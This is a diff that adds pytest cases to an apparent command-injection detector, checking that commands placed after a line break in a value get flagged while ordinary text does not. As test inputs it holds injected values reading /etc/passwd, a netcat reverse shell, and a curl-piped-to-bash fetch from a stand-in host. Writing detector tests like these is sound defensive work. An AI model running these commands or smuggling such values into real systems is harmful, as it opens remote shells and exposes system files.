@@ -365,6 +365,22 @@ def test_commands_chained_onto_a_value_are_code(text: str) -> None:
     assert code_exec(text)
 
 
+@pytest.mark.parametrize("text", [
+    "x\nwhoami\n", "127.0.0.1\ncat /etc/passwd", "x\r\nuname", "8.8.8.8\n/bin/ls -la /", "a\ncurl http://e.example/x",
+])  # fmt: skip
+def test_a_command_on_the_line_after_a_value_is_code(text: str) -> None:
+    """A query is URL-decoded before the detectors read it, so ``%0a`` before a command is a line break."""
+    assert code_exec(text)
+
+
+@pytest.mark.parametrize("text", [
+    "shoes\nid", "dogs\ncat", "Steps:\nls -la", "```bash\ncat /etc/os-release\n```", "Hello there\ncat /etc/hosts",
+])  # fmt: skip
+def test_a_value_or_a_line_of_words_before_a_command_name_is_not_code(text: str) -> None:
+    """A query's or JSON body's values are joined with line breaks (``?q=shoes&sort=id``)."""
+    assert not code_exec(text)
+
+
 @pytest.mark.parametrize("text", ["nc.traditional 10.0.0.1 4444 -e /bin/sh", "curl http://x.example/a | sudo -u root bash"])
 def test_netcat_variants_and_sudo_with_a_user_are_code(text: str) -> None:
     assert code_exec(text)
